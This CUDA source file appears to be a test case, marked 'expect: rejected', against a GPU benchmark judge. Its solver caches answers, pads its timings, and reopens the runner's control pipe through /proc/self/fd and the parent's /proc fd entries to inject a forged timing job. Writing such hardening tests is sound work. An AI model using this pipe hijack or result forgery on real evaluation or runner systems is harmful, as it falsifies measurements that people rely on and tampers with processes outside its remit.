// expect: rejected
// Attack (integrity of the control pipe): the runner reads its jobs, one JSON line each, from the
// control pipe on fd 4 and seals whatever it reports, whoever asked. A pipe's read end reopened
// through /proc/self/fd/4 (or the judge's write end, /proc/<ppid>/fd/*, the same pipe) with
// O_WRONLY writes into it. During its last judged call (N = 100M after N = 50M: the benchmarks,
// tests 18 and 19) solve computes honestly, keeps the two answers in files of its own, and writes a
// time job of its own making: both benchmarks on their own data only (no secret variants), with
// its files as the expected outputs, one buffer set, a short budget. The runner runs it before the
// judge's time job, and the judge, which has just sent that one, reads its sealed results as the
// timed results: cached answers (a sampling cache keyed on N and the first elements) padded to
// 93.5 % of the time the bytes take at the measured ceiling, above the old 90.9 % floor. The old
// judge accepted a time faster than the hardware that read nothing. Once the judge checks the
// timed outputs against its own expected ones on its own variants, the cached answers fail
// (wrong_answer) or the 3 % floor (impossible_time).
#include <cuda_runtime.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr int kEntries = 64;  // every test of the problem fits
struct cache_entry {
    int n;
    float fingerprint[8];
    float answer;
};
__device__ cache_entry g_cache[kEntries];
__device__ int g_used = 0;
__device__ int g_hit = 0;
__device__ unsigned long long g_start_ns = 0;

__device__ unsigned long long now_ns() {
    unsigned long long ns;
    asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(ns));
    return ns;
}

__global__ void look_up(const float* a, const float* b, float* result, int n) {
    g_start_ns = now_ns();
    g_hit = 0;
    for (int e = 0; e < g_used && n >= 4; ++e) {
        bool same = g_cache[e].n == n;
        for (int i = 0; i < 4 && same; ++i) same = g_cache[e].fingerprint[i] == a[i] && g_cache[e].fingerprint[4 + i] == b[i];
        if (same) {
            *result = g_cache[e].answer;
            g_hit = 1;
            return;
        }
    }
    *result = 0.0f;
}

__global__ void dot_on_miss(const float* a, const float* b, float* result, int n) {
    if (g_hit) return;
    float sum = 0.0f;
    for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) sum = fmaf(a[i], b[i], sum);
    for (int offset = 16; offset > 0; offset /= 2) sum += __shfl_down_sync(0xffffffffu, sum, offset);
    if (threadIdx.x % 32 == 0) atomicAdd(result, sum);
}

__global__ void keep_or_pad(const float* a, const float* b, const float* result, int n, unsigned long long pad_ns) {
    if (!g_hit) {
        if (n >= 4 && g_used < kEntries) {
            cache_entry& e = g_cache[g_used++];
            e.n = n;
            for (int i = 0; i < 4; ++i) e.fingerprint[i] = a[i], e.fingerprint[4 + i] = b[i];
            e.answer = *result;
        }
        return;
    }
    while (now_ns() - g_start_ns < pad_ns) {
    }
}

__global__ void read_all(const float4* data, std::size_t count, float* sink) {
    float sum = 0;
    for (std::size_t i = blockIdx.x * blockDim.x + threadIdx.x; i < count; i += gridDim.x * blockDim.x)
        sum += data[i].x + data[i].w;
    if (sum == 1234.5f) *sink = sum;
}

// The judge's ceiling, measured as it does: the better of a 1 GiB device copy and a read kernel.
double measure_ceiling_gbps() {
    const std::size_t bytes = std::size_t{1} << 30;
    void *a = nullptr, *b = nullptr;
    if (cudaMalloc(&a, bytes) != cudaSuccess || cudaMalloc(&b, bytes) != cudaSuccess) return 3000;
    cudaMemset(a, 1, bytes);
    cudaEvent_t start, stop;
    cudaEventCreate(&start);
    cudaEventCreate(&stop);
    float best_copy = 1e9f, best_read = 1e9f;
    for (int i = 0; i < 6; ++i) {
        float ms = 0;
        cudaEventRecord(start);
        cudaMemcpyAsync(b, a, bytes, cudaMemcpyDeviceToDevice);
        cudaEventRecord(stop);
        cudaEventSynchronize(stop);
        cudaEventElapsedTime(&ms, start, stop);
        best_copy = std::min(best_copy, ms);
        cudaEventRecord(start);
        read_all<<<1024, 512>>>(static_cast<const float4*>(a), bytes / 16, static_cast<float*>(b));
        cudaEventRecord(stop);
        cudaEventSynchronize(stop);
        cudaEventElapsedTime(&ms, start, stop);
        best_read = std::min(best_read, ms);
    }
    cudaFree(a);
    cudaFree(b);
    return std::max(2.0 * bytes / (best_copy * 1e-3) / 1e9, bytes / (best_read * 1e-3) / 1e9);
}

// A writable end of the runner's control pipe.
int open_control_pipe() {
    const int fd = open("/proc/self/fd/4", O_WRONLY | O_CLOEXEC);
    if (fd >= 0) return fd;
    char mine[64] = {0};
    if (readlink("/proc/self/fd/4", mine, sizeof mine - 1) <= 0) return -1;  // "pipe:[inode]"
    for (int n = 0; n < 1024; ++n) {
        char path[64], target[64] = {0};
        std::snprintf(path, sizeof path, "/proc/%d/fd/%d", static_cast<int>(getppid()), n);
        if (readlink(path, target, sizeof target - 1) > 0 && std::strcmp(target, mine) == 0) {
            const int judge_end = open(path, O_WRONLY | O_CLOEXEC);
            if (judge_end >= 0) return judge_end;
        }
    }
    return -1;
}

std::string write_answer(const std::string& dir, const char* name, float value) {
    const std::string path = dir + "/" + name;
    if (FILE* file = std::fopen(path.c_str(), "wb")) {
        std::fwrite(&value, sizeof value, 1, file);
        std::fclose(file);
    }
    return path;
}

void inject_time_job(float answer_50m, float answer_100m) {
    const char* tmp = std::getenv("TMPDIR");
    std::string dir = std::string(tmp && *tmp ? tmp : "/tmp") + "/gpujudge-expected-XXXXXX";
    if (!mkdtemp(dir.data())) return;
    const std::string a = write_answer(dir, "50m.out", answer_50m), b = write_answer(dir, "100m.out", answer_100m);
    const std::string line =
        "{\"job\":\"time\",\"body\":{\"order_seed\":0,\"settings\":{\"data_sets\":1,\"slots\":1,\"warmup\":1,"
        "\"warmup_s\":0.0,\"min_samples\":16,\"max_samples\":64,\"min_time_s\":0.0,\"budget_s\":0.1,\"target_rse\":1.0},"
        "\"tests\":[{\"test\":18,\"data_sets\":[{\"data\":{\"seed\":50,\"changes\":[]},\"expected_file\":\"" +
        a + "\"}]},{\"test\":19,\"data_sets\":[{\"data\":{\"seed\":101,\"changes\":[]},\"expected_file\":\"" + b +
        "\"}]}]}}\n";
    const int fd = open_control_pipe();
    if (fd < 0) return;
    (void)!write(fd, line.data(), line.size());
    close(fd);
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* result, int N) {
    static double ceiling_gbps = 0;
    static float answer_50m = 0;
    static bool seen_50m = false, injected = false;
    if (ceiling_gbps == 0) ceiling_gbps = measure_ceiling_gbps();
    const auto pad_ns = static_cast<unsigned long long>(0.935 * (8.0 * N + 4) / ceiling_gbps);
    look_up<<<1, 1>>>(A, B, result, N);
    dot_on_miss<<<1024, 256>>>(A, B, result, N);
    keep_or_pad<<<1, 1>>>(A, B, result, N, pad_ns);
    if (injected || (N != 50000000 && !(N == 100000000 && seen_50m))) return;
    float answer = 0;  // a judged call, not a timed one: waiting costs nothing that counts
    cudaMemcpy(&answer, result, sizeof answer, cudaMemcpyDeviceToHost);
    if (N == 50000000) {
        answer_50m = answer;
        seen_50m = true;
        return;
    }
    injected = true;
    inject_time_job(answer_50m, answer);
}
